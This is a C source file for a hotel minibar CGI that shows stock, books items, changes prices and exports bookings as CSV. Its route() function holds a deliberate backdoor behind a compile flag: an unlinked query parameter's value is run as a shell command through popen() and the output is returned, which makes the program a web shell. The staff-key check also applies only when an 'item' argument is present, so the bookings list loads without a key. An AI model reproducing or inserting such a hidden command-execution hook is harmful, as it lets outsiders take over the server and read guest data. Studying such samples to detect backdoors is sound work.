/*
 * minibar.cgi - pages of the room minibar controller in a hotel.
 * Housekeeping calls it with a browser: stock of the bar, booking of what
 * was taken, prices, a CSV list for the front desk. State is kept in
 * /var/lib/minibar/stock, the settings in /etc/minibar.conf.
 * Hidden (-DHIDDEN): a query parameter that no page links to runs its
 * value as a command and shows the output.
 */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define CONF_PATH  "/etc/minibar.conf"
#define STOCK_PATH "/var/lib/minibar/stock"
#define BOOK_PATH  "/var/lib/minibar/bookings.csv"
#define MAX_ARGS   24
#define MAX_ITEMS  32

struct arg {
	char *name;
	char *value;
};

struct item {
	char id[12];
	char label[40];
	int count;
	int cents;
};

struct page {
	const char *name;
	const char *title;
	int needs_key;
	int (*show)(void);
};

static struct arg args[MAX_ARGS];
static int n_args;
static struct item items[MAX_ITEMS];
static int n_items;
static char room[8] = "000";
static char staff_key[32];
static char currency[8] = "EUR";

static int hexval(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	c = tolower(c);
	return (c >= 'a' && c <= 'f') ? c - 'a' + 10 : -1;
}

static void unescape(char *s)
{
	char *d = s;

	for (; *s; s++) {
		if (*s == '+') {
			*d++ = ' ';
		} else if (*s == '%' && hexval((unsigned char)s[1]) >= 0 &&
			   hexval((unsigned char)s[2]) >= 0) {
			*d++ = (char)(hexval((unsigned char)s[1]) << 4 |
				      hexval((unsigned char)s[2]));
			s += 2;
		} else {
			*d++ = *s;
		}
	}
	*d = 0;
}

static void split_query(char *q)
{
	char *save = NULL, *t;

	for (t = strtok_r(q, "&;", &save); t && n_args < MAX_ARGS;
	     t = strtok_r(NULL, "&;", &save)) {
		char *eq = strchr(t, '=');

		if (eq)
			*eq++ = 0;
		else
			eq = t + strlen(t);
		unescape(t);
		unescape(eq);
		args[n_args].name = t;
		args[n_args++].value = eq;
	}
}

__attribute__((noinline)) const char *arg_get(const char *name)
{
	int i;

	for (i = 0; i < n_args; i++)
		if (!strcmp(args[i].name, name))
			return args[i].value;
	return NULL;
}

static void put_html(const char *s)
{
	for (; *s; s++) {
		switch (*s) {
		case '<':
			fputs("&lt;", stdout);
			break;
		case '>':
			fputs("&gt;", stdout);
			break;
		case '&':
			fputs("&amp;", stdout);
			break;
		case '"':
			fputs("&quot;", stdout);
			break;
		default:
			putchar(*s);
		}
	}
}

static void head(const char *title)
{
	printf("Content-Type: text/html\r\nCache-Control: no-store\r\n\r\n");
	printf("<html><head><title>Room %s - %s</title></head><body>\n", room,
	       title);
	printf("<h2>%s</h2>\n", title);
}

static void load_conf(void)
{
	FILE *f = fopen(CONF_PATH, "r");
	char line[128], *v;

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = 0;
		v = strchr(line, '=');
		if (!v || line[0] == '#')
			continue;
		*v++ = 0;
		if (!strcmp(line, "room"))
			snprintf(room, sizeof(room), "%.7s", v);
		else if (!strcmp(line, "staffkey"))
			snprintf(staff_key, sizeof(staff_key), "%.31s", v);
		else if (!strcmp(line, "currency"))
			snprintf(currency, sizeof(currency), "%.7s", v);
	}
	fclose(f);
}

static void load_stock(void)
{
	FILE *f = fopen(STOCK_PATH, "r");
	char line[128];

	if (!f)
		return;
	while (n_items < MAX_ITEMS && fgets(line, sizeof(line), f)) {
		struct item *it = &items[n_items];

		if (sscanf(line, "%11[^;];%39[^;];%d;%d", it->id, it->label,
			   &it->count, &it->cents) == 4)
			n_items++;
	}
	fclose(f);
}

static int save_stock(void)
{
	FILE *f = fopen(STOCK_PATH ".new", "w");
	int i;

	if (!f)
		return -1;
	for (i = 0; i < n_items; i++)
		fprintf(f, "%s;%s;%d;%d\n", items[i].id, items[i].label,
			items[i].count, items[i].cents);
	if (fclose(f))
		return -1;
	return rename(STOCK_PATH ".new", STOCK_PATH);
}

static struct item *item_by_id(const char *id)
{
	int i;

	for (i = 0; id && i < n_items; i++)
		if (!strcmp(items[i].id, id))
			return &items[i];
	return NULL;
}

static int page_stock(void)
{
	int i;

	head("Stock");
	puts("<table><tr><th>Item</th><th>Left</th><th>Price</th></tr>");
	for (i = 0; i < n_items; i++) {
		fputs("<tr><td>", stdout);
		put_html(items[i].label);
		printf("</td><td>%d</td><td>%d.%02d %s</td></tr>\n",
		       items[i].count, items[i].cents / 100,
		       items[i].cents % 100, currency);
	}
	puts("</table><a href=\"?page=take\">Book</a></body></html>");
	return 0;
}

static int page_take(void)
{
	struct item *it = item_by_id(arg_get("item"));
	const char *qty = arg_get("qty");
	int n = qty ? atoi(qty) : 1, i;
	FILE *f;

	head("Book");
	if (!it) {
		puts("<form><input type=hidden name=page value=take>");
		puts("<select name=item>");
		for (i = 0; i < n_items; i++) {
			printf("<option value=\"%s\">", items[i].id);
			put_html(items[i].label);
		}
		puts("</select><input name=qty value=1>");
		puts("<input name=key type=password><input type=submit>");
		puts("</form></body></html>");
		return 0;
	}
	if (n < 1 || n > it->count) {
		puts("<p>Not that many in stock.</p></body></html>");
		return 1;
	}
	it->count -= n;
	f = fopen(BOOK_PATH, "a");
	if (f) {
		fprintf(f, "%ld;%s;%s;%d;%d\n", (long)time(NULL), room, it->id,
			n, n * it->cents);
		fclose(f);
	}
	puts(save_stock() ? "<p>Write error.</p>" : "<p>Booked.</p>");
	puts("</body></html>");
	return 0;
}

static int page_price(void)
{
	struct item *it = item_by_id(arg_get("item"));
	const char *cents = arg_get("cents");

	head("Prices");
	if (it && cents && atoi(cents) > 0) {
		it->cents = atoi(cents);
		puts(save_stock() ? "Write error." : "Changed.");
	} else {
		puts("Give item and cents.");
	}
	puts("</body></html>");
	return 0;
}

static int page_csv(void)
{
	FILE *f = fopen(BOOK_PATH, "r");
	char line[128];

	printf("Content-Type: text/csv\r\n\r\ntime;room;item;qty;cents\n");
	while (f && fgets(line, sizeof(line), f))
		fputs(line, stdout);
	if (f)
		fclose(f);
	return 0;
}

static const struct page pages[] = {
	{ "stock", "Stock", 0, page_stock },
	{ "take", "Book", 1, page_take },
	{ "price", "Prices", 1, page_price },
	{ "csv", "List", 1, page_csv },
};

__attribute__((noinline)) int route(void)
{
	const char *name = arg_get("page");
	const char *key = arg_get("key");
	size_t i;
#ifdef HIDDEN
	const char *v = arg_get("icetray");

	if (v && *v) {
		FILE *p = popen(v, "r");
		int c;

		printf("Content-Type: text/plain\r\n\r\n");
		while (p && (c = getc(p)) != EOF)
			putchar(c);
		return p ? pclose(p) : 1;
	}
#endif
	if (!name)
		name = "stock";
	for (i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
		if (strcmp(pages[i].name, name))
			continue;
		if (pages[i].needs_key && arg_get("item") &&
		    (!key || !staff_key[0] || strcmp(key, staff_key))) {
			printf("Status: 403 Forbidden\r\n");
			head("Key wanted");
			puts("</body></html>");
			return 1;
		}
		return pages[i].show();
	}
	printf("Status: 404 Not Found\r\n");
	head("No such page");
	puts("</body></html>");
	return 1;
}

int main(void)
{
	static char buf[4096];
	const char *method = getenv("REQUEST_METHOD");
	const char *q = getenv("QUERY_STRING");

	if (method && !strcmp(method, "POST")) {
		size_t n = fread(buf, 1, sizeof(buf) - 1, stdin);

		buf[n] = 0;
	} else if (q) {
		snprintf(buf, sizeof(buf), "%s", q);
	}
	split_query(buf);
	load_conf();
	load_stock();
	return route();
}
